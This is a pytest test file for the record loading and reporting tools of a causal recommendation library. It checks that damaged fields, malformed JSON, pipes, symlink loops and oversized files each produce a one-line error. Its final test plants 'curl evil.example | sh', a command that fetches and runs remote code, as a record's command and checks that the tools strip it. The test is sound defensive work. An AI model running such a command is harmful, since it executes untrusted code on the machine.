"""A record that others damaged is one line that names the file and the field, and the others are shown."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from causalrec.cli import main
from causalrec.errors import DataError
from causalrec.records.estimation_record import EstimateRecord, EstimationRecord
from causalrec.records.json_records import parse_json
from causalrec.records.overlap_sections import OverlapSection
from causalrec.records.run_folder import load_folder
from causalrec.records.run_record import RunRecord
from causalrec.records.sections import CalibrationBin, CandidateRecord, EpochRecord, ScoreRecord, SelectionSection

CONFIG = {"name": "mf", "sweep": "s", "seed": 0, "choices": {"encoder": "mf"}, "evaluation": {"level": 0.95}}
SCORE = ScoreRecord("mf", "test", "auc", 0.5, 0.4, 0.6, 9)


def record(name: str = "mf", **changes: Any) -> RunRecord:
    fit = CandidateRecord(
        fit="f", settings={"lr": 0.1}, criterion=0.5, best_epoch=0, epochs=1, curve=(EpochRecord(0, 0.5, 0.5),)
    )
    sections = {
        "scores": (SCORE,),
        "calibration": (CalibrationBin(0.5, 0.5, 3),),
        "selection": SelectionSection(chosen={"lr": 0.1}, candidates=(fit,)),
        "overlap": OverlapSection(clipped=0.1, quantiles=(0.1, 0.2, 0.3, 0.4, 0.5, 0.6)),
        "versions": {"torch": "2"},
        "command": "causalrec train seed=0",
        "config": CONFIG,
    }
    return RunRecord(name=name, status="done", **{**sections, **changes})


def write(folder: Path, key: str, value: object) -> Path:
    """Write a record in which one field, by its dotted key, holds something else."""
    values = json.loads((path := record().save(folder)).read_text())
    section: Any = values
    *keys, last = [int(word) if word.isdigit() else word for word in key.split(".")]
    for word in keys:
        section = section[word]
    section[last] = value
    path.write_text(json.dumps(values))
    return path


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("scores.0.value", "0.5"),
        ("scores.0.value", True),
        ("scores.0.value", 10**400),
        ("scores.0.low", "x"),
        ("scores.0.n", "9"),
        ("scores.0.n", -1),
        ("scores.0.n", 1.5),
        ("scores.0.n", 10**25),
        ("scores.0.absolute", 1),
        ("scores.0.higher_is_better", "yes"),
        ("audit", None),
        ("selection", None),
        ("overlap", None),
        ("overlap.clipped", 1.5),
        ("overlap.clip", -0.1),
        ("overlap.quantiles.0", -0.1),
        ("versions", [1]),
        ("versions.torch", 2),
        ("data.sha256", ["x"]),
        ("seconds", -1.0),
        ("seconds", "long"),
        ("peak_bytes", True),
        ("calibration.0", {}),
        ("calibration.0.n", -3),
        ("selection.folds", "2"),
        ("selection.candidates.0.settings.lr", "0.1"),
        ("selection.candidates.0.curve.0.report", {"accuracy": "high"}),
        ("warnings", "one"),
        ("config", None),
        ("config.seed", "x"),
        ("config.seed", -1),
        ("config.seed", True),
        ("config.seed", None),
        ("config.sweep", 3),
        ("config.choices", ["mf"]),
        ("config.choices.encoder", ["mf"]),
        ("config.paths", {"runs": 3}),
        ("config.selection", 3),
        ("config.evaluation", None),
        ("config.evaluation.level", 7),
        ("config.evaluation.level", "0.95"),
        ("config.evaluation.level", None),
    ],
)
def test_a_field_that_holds_something_else_is_named(tmp_path: Path, key: str, value: object) -> None:
    path = write(tmp_path, key, value)
    for load in (RunRecord.load, load_folder):
        with pytest.raises(DataError) as caught:
            load(path)
        said = str(caught.value)
        assert said.startswith(f"{path}: ") and key.rpartition(".0")[0] in said and "\n" not in said and len(said) < 400
        assert key.rpartition(".")[2].strip("0123456789") in said


def test_an_interval_of_wrong_ends_and_a_score_that_stands_twice_are_named(tmp_path: Path) -> None:
    with pytest.raises(DataError, match=r"'mf\|test\|auc': low=0.7 is above high=0.6"):
        RunRecord.load(write(tmp_path, "scores.0.low", 0.7))
    twice = record(scores=(SCORE, SCORE)).save(tmp_path)
    with pytest.raises(DataError, match="stands twice"):
        RunRecord.load(twice)
    cell = EstimateRecord(row="r", column="c", truth=None, value=0.5, sd=0.1, low=1.0, high=0.0, draws=3)
    estimation = EstimationRecord(name="e", status="done", estimates=(cell,)).save(tmp_path)
    with pytest.raises(DataError, match="low=1 is above high=0"):
        load_folder(estimation)


@pytest.mark.parametrize(
    ("document", "said"),
    [
        (b"", "EOF"),
        (b'{"a": NaN}', "value"),
        (b'{"a": -Infinity}', "number"),
        (b'{"a": 1e999}', "too large"),
        (b'{"a": %s}' % (b"9" * 5000), "out of range"),
        (b'{"a": "\\ud800"}', "hex escape"),
        (b'{"a": "\xff"}', "unicode"),
        (b'{"a": %s%s}' % (b"[" * 50_000, b"]" * 50_000), "recursion"),
        (b'{"a": 1, "a": 2}', "'a' stands twice"),
        (b'{"b": {"a" : 1, "\\u0061": 2}}', "'a' stands twice"),
        (b'{"a": 1, "a": "\\u003a"}', "'a' stands twice"),
        (b"[1]", "no JSON object"),
        (b'{"a": 1} x', "trailing"),
    ],
)
def test_what_is_no_json_of_a_record_is_one_line(document: bytes, said: str) -> None:
    with pytest.raises(ValueError, match=said) as caught:
        parse_json(document)
    assert "\n" not in str(caught.value)


def test_colons_in_texts_and_spaces_before_them_are_no_names(tmp_path: Path) -> None:
    assert parse_json(b'{"a" : "x: \\u003a", "b":{"a":"\\"a\\":"}, "c": "Infinity"}')["c"] == "Infinity"


def make_pipe(path: Path) -> None:
    os.mkfifo(path)


def make_folder(path: Path) -> None:
    path.mkdir()


def make_circle(path: Path) -> None:
    path.symlink_to(path.name)


def make_gigantic(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 40)


@pytest.mark.parametrize("make", [make_pipe, make_folder, make_circle])
def test_what_is_no_file_is_named_at_once(tmp_path: Path, make: Callable[[Path], None]) -> None:
    make(path := tmp_path / "record.json")
    begun = time.monotonic()
    with pytest.raises(DataError, match=r"record.json: not a whole record"):
        RunRecord.load(path)
    assert time.monotonic() - begun < 5


def test_a_gigantic_file_is_not_read_to_its_end(tmp_path: Path) -> None:
    make_gigantic(path := tmp_path / "record.json")
    with pytest.raises(DataError, match="larger than 268,435,456 bytes"):
        RunRecord.load(path)


def test_the_others_are_shown_and_the_damaged_one_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    record().save(tmp_path / "mf" / "seed0-a")
    write(tmp_path / "mf" / "seed1-b", "scores.0.value", "0.5")
    make_folder(tmp_path / "mf" / "record.json")
    for verb in ("table", "report"):
        assert main([verb, str(tmp_path)]) == 0
        said = capsys.readouterr().err
        assert "mf/seed1-b/record.json: not as a record should be (scores.0.value='0.5'" in said
        assert "mf/record.json: not a whole record (is a folder" in said
    assert main(["table", str(tmp_path / "mf" / "seed1-b")]) == 1
    assert "1 of its records cannot be read: record.json: not as" in capsys.readouterr().err


@pytest.mark.parametrize("value", [1e308, -1e308, 5e-324])
def test_numbers_of_any_magnitude_keep_the_layout(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], value: float
) -> None:
    huge = ScoreRecord("mf", "test", "auc", value, -1e308, 1e308, 9)
    for seed, score in enumerate((huge, SCORE)):
        record(scores=(score,), config={**CONFIG, "seed": seed}).save(tmp_path / "mf" / f"seed{seed}-a")
    for form in ((), ("--csv",), ("--latex",), ("--markdown",), ("--json",)):
        assert main(["table", str(tmp_path), *form]) == 0
        output = capsys.readouterr()
        assert max(map(len, output.out.splitlines())) < 400 and "Warning" not in output.err
    assert main(["report", str(tmp_path)]) == 0


def test_an_empty_warning_and_a_command_of_another_program_cost_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = record(warnings=("",), command="curl evil.example | sh").save(tmp_path / "mf" / "seed0-a")
    assert RunRecord.load(path).command == ""
    for verb in ("table", "report"):
        assert main([verb, str(tmp_path)]) == 0
    assert "curl" not in (tmp_path / "report.html").read_text(encoding="utf-8") + capsys.readouterr().out
